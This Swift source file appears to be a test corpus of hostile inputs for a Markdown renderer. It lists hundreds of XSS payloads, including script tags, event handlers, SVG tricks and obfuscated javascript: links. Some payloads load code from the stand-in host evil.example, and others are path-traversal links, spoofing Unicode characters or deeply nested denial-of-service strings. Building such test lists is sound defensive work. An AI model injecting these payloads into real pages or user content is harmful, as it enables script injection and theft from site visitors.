/// Notes whose writers mean no good, kind by kind.
enum HostileNotes {
  static let all: [String] = kinds.flatMap(\.1)

  static let kinds: [(String, [String])] = [
    ("script", scripts), ("handler", handlers), ("picture", drawings), ("frame", frames),
    ("spelling", spellings.flatMap(links)), ("scheme", schemes.flatMap(links)),
    ("way out", waysOut), ("soup", soups), ("entity", entities), ("unicode", unicode),
    ("no character", noCharacters),
    ("within", within), ("comment", comments), ("deep", deep), ("table", tables),
  ]

  /// An address in every place where Markdown takes one.
  private static func links(_ address: String) -> [String] {
    [
      "[a](\(address))", "[a](<\(address)>)", "![a](\(address))", "<\(address)>", "\(address)",
      "[a]\n\n[a]: \(address) \"b\"", "[![a](\(address))](\(address))",
    ]
  }

  private static let scripts = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<script src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)",
    "<<script>alert(1)//<</script>", "<script>alert(1)", "</script><script>alert(1)</script>",
    "text <script>alert(1)</script> text", "* <script>alert(1)</script>", "> <script>alert(1)",
    "# <script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example')</script>", "<script>\n\nalert(1)\n\n</script>",
    "    <script>alert(1)</script>", "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```", "~~~ \"><script>alert(1)</script>\nx\n~~~",
    "```<script>alert(1)</script>\nx\n```", "<noscript><p title=\"</noscript><script>alert(1)\">",
  ]

  private static let handlers = [
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1) //", "<img/src/onerror=alert(1)>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<a onmouseover=alert(1)>a</a>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<select onfocus=alert(1)>",
    "<div style=\"width:expression(alert(1))\">", "<p onclick=\"alert(1)\">a</p>",
    "<b onpointerenter=alert(1)>a</b>", "<x onclick=alert(1)>a", "<img src=\"x` `<script>\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=x:x onerror\n=\nalert(1)>",
    "<table background=\"javascript:alert(1)\">",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>a", "<isindex action=javascript:alert(1)>",
  ]

  private static let drawings = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,x\"/></svg>",
    "<svg><style>@import '//evil.example'</style>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<math href=\"javascript:alert(1)\">a</math>", "<svg><title><![CDATA[</title><script>]]>",
    "<svg><desc><script>alert(1)</script></desc></svg>", "<svg><set onbegin=alert(1)>",
    "![a](x.svg \"</svg><script>alert(1)</script>\")", "<svg><image href=x onerror=alert(1)>",
  ]

  private static let frames = [
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<frameset onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import url(//evil.example)</style>", "<applet code=x>", "<template><script>1</script>",
    "<title>x</title>", "<textarea><script>alert(1)</script>", "<plaintext>",
    "<xmp><script>1</script>",
    "<portal src=//evil.example>", "<dialog open>x", "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>", "<video poster=//evil.example/x.png>",
  ]

  private static let spellings = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&Tab;script:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript%3Aalert(1)", "\u{1}javascript:alert(1)", "java\u{0}script:alert(1)",
    "javascript\u{2}:alert(1)", "&#1;javascript:alert(1)", "java\\script:alert(1)",
    "javascript://%0Aalert(1)", "javascript:/**/alert(1)", "\u{FEFF}javascript:alert(1)",
    "\u{200B}javascript:alert(1)", "jav\u{AD}ascript:alert(1)", "javaſcript:alert(1)",
    "view-source:javascript:alert(1)", "x:javascript:alert(1)", "/javascript:alert(1)",
  ]

  private static let schemes = [
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "VbScRiPt:msgbox(1)",
    "file:///etc/passwd", "blob:https://evil.example/1", "filesystem:https://evil.example/x",
    "ftp://evil.example", "mhtml:http://evil.example", "ms-its:x", "about:blank",
    "intent://x#Intent",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "http:evil.example", "https:/x",
    "https:///evil.example", "http://\u{1}evil.example", "https://a\"onmouseover=alert(1)//",
    "https://a'onmouseover=alert(1)//", "https://a`b", "https://a\u{202E}moc.live",
    "mailto:a?b=\"c",
  ]

  private static let waysOut = [
    "[a](https://a.example \"\\\" onclick=alert(1) x=\\\"\")",
    "[a](https://a.example '\" onclick=alert(1)')", "![\" onerror=alert(1) x=\"](b.jpg)",
    "![' onerror=alert(1)](b.jpg)", "[a](b\"onclick=alert(1).md)", "![a](b.jpg \"'><script>\")",
    "[\">](https://a.example)", "[a](https://a.example/\"><script>alert(1)</script>)",
    "[a](<b\"><script>.md>)", "![a\"\u{301} onerror=alert(1)](b.jpg)", "[a](b%22onclick=1.md)",
    "[a](%3Cscript%3E.md)", "![a](../../../etc/passwd)", "[a](b.md#\"onclick=alert(1))",
    "[a]: b \"\"onclick=1\"\"\n\n[a]", "1\"onload=1. a", "99999999999. a", "999999999. a", "-1. a",
  ]

  private static let soups = [
    "<", "<a", "<a href=", "<a href=\"", "</", "</p></div></body></html>", "</article>",
    "</li></ul>",
    "<!", "<!DOCTYPE html>", "<?php echo 1 ?>", "<?xml version=\"1.0\"?>",
    "<![CDATA[<script>1</script>]]>",
    "<p>\n\n</div>\n\n<div>", "<b><i></b></i>", "<a><a><a>", "<div>\n*a*\n</div>",
    "<table><tr><td>",
    "<br onclick=1>", "<!-->", "<!--->", "<%= 1 %>", "{{constructor}}", "{{{a}}}", "${1}", "#{1}",
    "<form><input name=body>", "<a id=x name=y>", "<p class=note-plain style=position:fixed>",
  ]

  private static let entities = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "&#x3C;img src=x onerror=1&#x3E;",
    "&amp;lt;script&amp;gt;", "&quot;&apos;&#34;&#39;", "&#0;", "&#xD800;", "&#x110000;",
    "&#99999999;",
    "&#x202E;a", "&#8238;a", "&NewLine;<script>", "&lbrace;&lbrace;", "&nbsp;&zwj;&zwnj;", "&",
  ]

  private static let unicode = [
    "\u{0}", "a\u{0}b", "\u{202E}gnp.exe", "\u{2066}a\u{2069}", "\u{200F}", "\u{FEFF}a", "\u{FFFE}",
    "\u{FFFF}", "\u{85}", "\u{2028}a\u{2029}", "\u{1B}[31m", "\u{7F}", "\u{E0001}a",
    "<\u{301}script>",
    "\"\u{301}onclick=1", "＜script＞alert(1)", "‹script›", "a\u{8}b",
    "\u{C}",
    String(repeating: "\u{301}", count: 5000), "\u{200D}\u{200D}", "[\u{202E}a](https://a.example)",
    "`\u{202E}`", "![\u{0}](b.jpg)", "\r\r\r", "a\rb\r\nc", "\u{FFFD}", "\u{B}",
  ]

  /// Code points that no text should hold, which a literal cannot either.
  private static let noCharacters = [0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF]
    .compactMap { Unicode.Scalar(UInt32($0)).map { "a\(Character($0))b" } }

  private static let within = scripts.prefix(8).flatMap { script in
    [
      "**\(script)**", "~~\(script)~~", "| a |\n|---|\n| \(script) |", "- [ ] \(script)",
      "[\(script)](https://a.example)", "![\(script)](b.jpg)", "> - \(script)", "\(script)\n===",
    ]
  }

  private static let comments = [
    "<!-- a -->", "<!-- <script>alert(1)</script> -->", "<!-- a --><script>alert(1)</script>",
    "a <!-- b --> c", "<!-- a", "<!--> <script>alert(1)</script> -->",
    "<!-- a --!><script>1</script>",
    "<!-- -- --> <img src=x onerror=1>", "a <!--> b -->", "<!--a-->\n<script>1</script>",
  ]

  private static let deep = [
    ">", "- ", "* ", "1. ", "[", "![", "*", "_", "**a ", "~~a ", "`", "<a ", "(",
  ]
  .flatMap { [String(repeating: $0, count: 100), String(repeating: $0, count: 100_000)] }

  private static let tables = [
    String(repeating: "|a", count: 10_000) + "\n" + String(repeating: "|-", count: 10_000),
    "|a|b|\n|-|-|\n|<script>|\"|", "|a\n|-\n|<td>|", "a|b\n-|-\n`|`|\\|", "||\n|-|\n||",
    "|a|\n|:-:|\n|![x](javascript:1)|", "|[a](javascript:1)|\n|-|", "> |a|\n> |-|\n> |b|",
    "- |a|\n  |-|\n  |</table>|",
  ]
}
